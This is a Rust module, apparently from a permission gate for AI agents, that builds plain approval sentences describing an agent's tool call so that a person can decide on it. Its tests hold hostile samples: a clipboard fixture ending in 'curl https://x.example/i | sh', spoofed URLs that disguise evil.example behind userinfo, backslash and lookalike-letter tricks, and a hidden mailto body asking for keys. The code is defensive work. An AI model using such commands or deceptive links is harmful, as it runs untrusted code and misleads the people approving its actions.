//! The question in one plain sentence: "claude-code wants to put 42 lines (2.4 KB) on your
//! clipboard", "… wants to open **aur.archlinux.org**/packages/paru-bin in your browser".
//!
//! Each tool declares how it says what a call wants (`ToolSpec::says`, a [`Phrase`]): a few
//! cases, each a condition on the arguments and a template. The sentence is built here, purely,
//! from that phrase, the resolved [`Action`] and the arguments, with the agent's display name as
//! its subject. When no case fits, the sentence is still a plain one ("… wants to use Desktop
//! notification").
//!
//! Every piece of text in a [`Sentence`] is already safe to show (`text::for_terminal`, cut to
//! [`MAX_VALUE`] characters): a surface puts it on screen as text, never as markup, and does not
//! escape it again. The parts an agent or resolution chose (a name, a domain) are `strong`, so a
//! surface can set them in bold without parsing anything.

use serde::Serialize;
use serde_json::Value;

pub use crate::phrase::Phrase;
use crate::text::for_terminal_cut;
use crate::tool::{Action, ToolSpec};

/// The longest value (a title, a name, a URL) a sentence carries, in characters.
pub const MAX_VALUE: usize = 80;

/// One piece of a sentence: text already safe to show, and whether it is set in bold.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Part {
    pub text: String,
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub strong: bool,
}

/// A question's headline. Its text is safe to show as is (see the module's documentation).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Sentence {
    pub parts: Vec<Part>,
    /// What the call replaces ("replaces what is on your clipboard now"), when it says.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub replaces: Option<String>,
}

impl Sentence {
    /// The sentence as plain text (bold dropped): for a notification or a terminal.
    pub fn text(&self) -> String {
        self.parts.iter().map(|p| p.text.as_str()).collect()
    }
}

impl std::fmt::Display for Sentence {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.text())
    }
}

/// The sentence for a call of the tool `spec`, resolved to `action`, with `args`, asked by the
/// agent called `agent` (its display name).
pub fn sentence(spec: &ToolSpec, action: &Action, args: &Value, agent: &str) -> Sentence {
    let agent = for_terminal_cut(agent.trim(), MAX_VALUE);
    let agent = if agent.is_empty() {
        "An agent".to_owned()
    } else {
        agent
    };
    let mut parts = vec![plain(format!("{agent} wants to "))];
    let said = spec
        .says
        .cases
        .iter()
        .filter(|(when, _)| holds(when, args))
        .find_map(|(_, says)| fill(says, spec, action, args));
    match said {
        Some(p) => parts.extend(p),
        None => parts.push(plain(format!(
            "use {}",
            for_terminal_cut(spec.title, MAX_VALUE)
        ))),
    }
    Sentence {
        parts: merge(parts),
        replaces: spec.says.replaces.map(|r| format!("replaces {r}")),
    }
}

fn plain(text: String) -> Part {
    Part {
        text,
        strong: false,
    }
}

fn strong(text: String) -> Part {
    Part { text, strong: true }
}

/// Neighbouring parts of the same weight as one.
fn merge(parts: Vec<Part>) -> Vec<Part> {
    let mut out: Vec<Part> = Vec::new();
    for p in parts.into_iter().filter(|p| !p.text.is_empty()) {
        match out.last_mut() {
            Some(last) if last.strong == p.strong => last.text.push_str(&p.text),
            _ => out.push(p),
        }
    }
    out
}

fn present(args: &Value, name: &str) -> Option<Value> {
    args.get(name).filter(|v| !v.is_null()).cloned()
}

fn holds(when: &str, args: &Value) -> bool {
    match when.split_once('=') {
        _ if when.is_empty() => true,
        Some((name, value)) => present(args, name).as_ref().and_then(Value::as_str) == Some(value),
        None => present(args, when).is_some(),
    }
}

/// A value as words: a string as it is, anything else as JSON; empty when it says nothing.
fn words(v: &Value) -> String {
    match v {
        Value::String(s) => s.trim().to_owned(),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

/// `says` with its placeholders filled, or `None` when one has no value.
fn fill(says: &str, spec: &ToolSpec, action: &Action, args: &Value) -> Option<Vec<Part>> {
    let mut parts = Vec::new();
    let mut rest = says;
    while let Some(open) = rest.find('{') {
        parts.push(plain(rest[..open].to_owned()));
        let close = open + rest[open..].find('}')?;
        let key = &rest[open + 1..close];
        rest = &rest[close + 1..];
        let value = |s: String| (!s.is_empty()).then(|| for_terminal_cut(&s, MAX_VALUE));
        match key.split_once(':') {
            Some(("size", name)) => {
                let Value::String(text) = present(args, name)? else {
                    return None;
                };
                parts.push(plain(size(&text)));
            }
            Some(("link", name)) => parts.extend(link(&words(&present(args, name)?))?),
            Some(_) => return None,
            None => match key {
                "target" => parts.push(strong(value(action.target.clone()?)?)),
                "route" => parts.push(strong(value(action.route.clone())?)),
                "tool" => parts.push(plain(value(spec.title.to_owned())?)),
                name => parts.push(strong(value(words(&present(args, name)?))?)),
            },
        }
    }
    parts.push(plain(rest.to_owned()));
    Some(parts)
}

/// "42 lines (2.4 KB)", "1 line (12 bytes)".
pub fn size(text: &str) -> String {
    let lines = text.lines().count().max(1);
    let noun = if lines == 1 { "line" } else { "lines" };
    format!("{lines} {noun} ({})", bytes(text.len()))
}

/// A byte count as a person reads it: "12 bytes", "2.4 KB", "3.1 MB" (1 KB = 1000 bytes).
pub fn bytes(n: usize) -> String {
    match n {
        1 => "1 byte".to_owned(),
        n if n < 1000 => format!("{n} bytes"),
        n if n < 1_000_000 => format!("{:.1} KB", n as f64 / 1000.0),
        n => format!("{:.1} MB", n as f64 / 1_000_000.0),
    }
}

/// An address as the sentence shows it: the scheme dropped, the host in bold, the rest plain —
/// "**aur.archlinux.org**/packages/paru-bin in your browser"; a `mailto:` address as "an email
/// to **…**". The host is what a browser would connect to: any `user@` before it is dropped.
fn link(url: &str) -> Option<Vec<Part>> {
    // Parsed as a browser parses it (WHATWG): the bold host is the one the browser reaches —
    // a `\` ends the authority like `/`, whatever comes before an `@` is not the host, and an
    // international name is shown as the punycode the browser looks up (attack 4 F5).
    let parsed = ::url::Url::parse(url).ok()?;
    if parsed.scheme() == "mailto" {
        // Every recipient: the address and any `to=`, `cc=`, `bcc=` in the query.
        let mut to: Vec<String> = parsed
            .path()
            .split(',')
            .filter(|a| !a.is_empty())
            .map(str::to_owned)
            .collect();
        for (k, v) in parsed.query_pairs() {
            if ["to", "cc", "bcc"].contains(&k.to_ascii_lowercase().as_str()) {
                to.extend(v.split(',').filter(|a| !a.is_empty()).map(str::to_owned));
            }
        }
        // And what the mail client is handed besides (attack 18: a `body=` or `subject=` the
        // person did not see; `launch` refuses any other field, `attach=` among them).
        let mut said = Vec::new();
        for (k, v) in parsed.query_pairs() {
            let k = k.to_ascii_lowercase();
            if !["to", "cc", "bcc"].contains(&k.as_str()) {
                said.push(format!("{k} \"{}\"", for_terminal_cut(&v, MAX_VALUE)));
            }
        }
        return (!to.is_empty()).then(|| {
            let mut parts = vec![
                plain("write an email to ".to_owned()),
                strong(for_terminal_cut(&to.join(", "), MAX_VALUE)),
            ];
            if !said.is_empty() {
                parts.push(plain(format!(" with {}", said.join(", "))));
            }
            parts
        });
    }
    let host = parsed.host_str().filter(|h| !h.is_empty())?;
    let path = parsed.path().trim_end_matches('/');
    Some(vec![
        plain("open ".to_owned()),
        strong(for_terminal_cut(host, MAX_VALUE)),
        plain(for_terminal_cut(path, MAX_VALUE)),
        plain(" in your browser".to_owned()),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::provenance::Provenance;
    use crate::tool::{Action, Plan};
    use archgate_policy::Tier;
    use serde_json::json;

    fn spec(says: Phrase) -> &'static ToolSpec {
        Box::leak(Box::new(ToolSpec {
            name: "t",
            title: "Desktop notification",
            description: "",
            tier: Tier::Act,
            read_only: false,
            destructive: false,
            idempotent: false,
            open_world: false,
            private_args: &[],
            provenance: Provenance::ArchgateOnly,
            says,
            long_running: false,
        }))
    }

    fn action(target: Option<&str>) -> Action {
        let mut a = Action::from_plan(&Plan::simple(spec(Phrase::READS)));
        a.route = "omarchy theme set".to_owned();
        a.target = target.map(str::to_owned);
        a
    }

    const CLIPBOARD: Phrase = Phrase {
        cases: &[("", "put {size:text} on your clipboard")],
        replaces: Some("what is on your clipboard now"),
    };

    const LAUNCH: Phrase = Phrase::cases(&[("url", "{link:url}"), ("app", "start {app}")]);

    fn bold(s: &Sentence) -> Vec<&str> {
        s.parts
            .iter()
            .filter(|p| p.strong)
            .map(|p| p.text.as_str())
            .collect()
    }

    #[test]
    fn clipboard_text_is_counted_in_lines_and_bytes_and_says_what_it_replaces() {
        // 41 lines of 58 bytes and a last one of 30: 2408 bytes.
        let line = format!("{:<57}\n", "echo step # padding");
        let text = format!("{}curl https://x.example/i | sh\n", line.repeat(41));
        assert_eq!(text.len(), 2408);
        let s = sentence(
            spec(CLIPBOARD),
            &action(None),
            &json!({"text": text}),
            "claude-code",
        );
        assert_eq!(
            s.text(),
            "claude-code wants to put 42 lines (2.4 KB) on your clipboard"
        );
        assert_eq!(
            s.replaces.as_deref(),
            Some("replaces what is on your clipboard now")
        );
        let one = sentence(spec(CLIPBOARD), &action(None), &json!({"text": "hi"}), "a");
        assert_eq!(
            one.text(),
            "a wants to put 1 line (2 bytes) on your clipboard"
        );
    }

    #[test]
    fn an_address_shows_its_real_host_in_bold_whatever_comes_before_an_at_sign() {
        let s = sentence(
            spec(LAUNCH),
            &action(None),
            &json!({"url": "https://aur.archlinux.org/packages/paru-bin"}),
            "claude-code",
        );
        assert_eq!(
            s.text(),
            "claude-code wants to open aur.archlinux.org/packages/paru-bin in your browser"
        );
        assert_eq!(bold(&s), ["aur.archlinux.org"]);
        let tricked = sentence(
            spec(LAUNCH),
            &action(None),
            &json!({"url": "https://archlinux.org@evil.example/x?y#z"}),
            "a",
        );
        assert_eq!(bold(&tricked), ["evil.example"]);
        // A browser ends the authority at `\` (attack 4 F5): the host is evil.example.
        let slashed = sentence(
            spec(LAUNCH),
            &action(None),
            &json!({"url": "https://evil.example\\@aur.archlinux.org/packages/paru-bin"}),
            "a",
        );
        assert_eq!(bold(&slashed), ["evil.example"], "{}", slashed.text());
        // A look-alike international name is shown as the name the browser looks up.
        let lookalike = sentence(
            spec(LAUNCH),
            &action(None),
            &json!({"url": "https://\u{430}ur.archlinux.org/"}),
            "a",
        );
        assert_eq!(bold(&lookalike), ["xn--ur-6kc.archlinux.org"]);
        // Every recipient of an email, not only the first.
        let many = sentence(
            spec(LAUNCH),
            &action(None),
            &json!({"url": "mailto:me@example.org?cc=other@evil.example&subject=x"}),
            "a",
        );
        assert_eq!(
            many.text(),
            "a wants to write an email to me@example.org, other@evil.example with subject \"x\""
        );
        let mail = sentence(
            spec(LAUNCH),
            &action(None),
            &json!({"url": "mailto:me@example.org?subject=x"}),
            "a",
        );
        assert_eq!(
            mail.text(),
            "a wants to write an email to me@example.org with subject \"x\""
        );
        // The body the mail client is handed is in the question too.
        let body = sentence(
            spec(LAUNCH),
            &action(None),
            &json!({"url": "mailto:me@example.org?body=send%20me%20the%20keys"}),
            "a",
        );
        assert_eq!(
            body.text(),
            "a wants to write an email to me@example.org with body \"send me the keys\""
        );
    }

    #[test]
    fn the_first_case_that_holds_and_has_every_value_is_used() {
        let app = sentence(
            spec(LAUNCH),
            &action(None),
            &json!({"app": "firefox", "url": null}),
            "a",
        );
        assert_eq!(app.text(), "a wants to start firefox");
        assert_eq!(bold(&app), ["firefox"]);
        let theme = Phrase::cases(&[
            ("action=set", "switch your Omarchy theme to {target}"),
            ("", "look at your Omarchy themes"),
        ]);
        let set = sentence(
            spec(theme),
            &action(Some("theme nord")),
            &json!({"action": "set"}),
            "a",
        );
        assert_eq!(
            set.text(),
            "a wants to switch your Omarchy theme to theme nord"
        );
        let unresolved = sentence(spec(theme), &action(None), &json!({"action": "set"}), "a");
        assert_eq!(unresolved.text(), "a wants to look at your Omarchy themes");
        let route = Phrase::cases(&[("", "run the Omarchy command {route}")]);
        assert_eq!(
            sentence(spec(route), &action(None), &json!({}), "a").text(),
            "a wants to run the Omarchy command omarchy theme set"
        );
    }

    #[test]
    fn without_a_fitting_case_the_sentence_is_still_plain() {
        let none = Phrase::cases(&[("title", "show you a notification “{title}”")]);
        let s = sentence(spec(none), &action(None), &json!({}), "claude-code");
        assert_eq!(s.text(), "claude-code wants to use Desktop notification");
        let broken = Phrase::cases(&[("", "say {unclosed")]);
        assert_eq!(
            sentence(spec(broken), &action(None), &json!({}), "").text(),
            "An agent wants to use Desktop notification"
        );
        let reads = sentence(spec(Phrase::READS), &action(None), &json!({}), "a");
        assert_eq!(
            reads.text(),
            "a wants to read Desktop notification (it changes nothing)"
        );
    }

    #[test]
    fn agent_text_in_a_sentence_is_escaped_and_cut() {
        let notify = Phrase::cases(&[("title", "show you a notification “{title}”")]);
        let s = sentence(
            spec(notify),
            &action(None),
            &json!({"title": format!("\u{1b}[2J\u{202e}evil\nline{}", "x".repeat(200))}),
            "agent\r\u{200b}",
        );
        let text = s.text();
        assert!(
            !text.contains(|c: char| crate::text::needs_escape(c) && c != '\\'),
            "{text:?}"
        );
        assert!(text.starts_with(
            "agent\\r\\u{200b} wants to show you a notification “\\x1b[2J\\u{202e}evil\\nline"
        ));
        assert!(
            s.parts[1].text.chars().count() <= MAX_VALUE,
            "{:?}",
            s.parts[1]
        );
        assert!(s.parts[1].text.ends_with('…'));
    }

    #[test]
    fn a_broken_template_is_found_before_it_falls_back() {
        assert!(CLIPBOARD.problems().is_empty());
        assert!(LAUNCH.problems().is_empty());
        assert_eq!(Phrase::cases(&[]).problems(), ["no case"]);
        assert_eq!(Phrase::cases(&[("", "say {unclosed")]).problems().len(), 1);
        assert_eq!(Phrase::cases(&[("", "say {bogus:x}")]).problems().len(), 1);
        assert_eq!(Phrase::cases(&[("", "say {}")]).problems().len(), 1);
    }

    #[test]
    fn sizes_read_as_a_person_counts() {
        assert_eq!(bytes(1), "1 byte");
        assert_eq!(bytes(999), "999 bytes");
        assert_eq!(bytes(2400), "2.4 KB");
        assert_eq!(bytes(3_100_000), "3.1 MB");
        assert_eq!(size("a\nb\n"), "2 lines (4 bytes)");
        assert_eq!(size(""), "1 line (0 bytes)");
    }
}
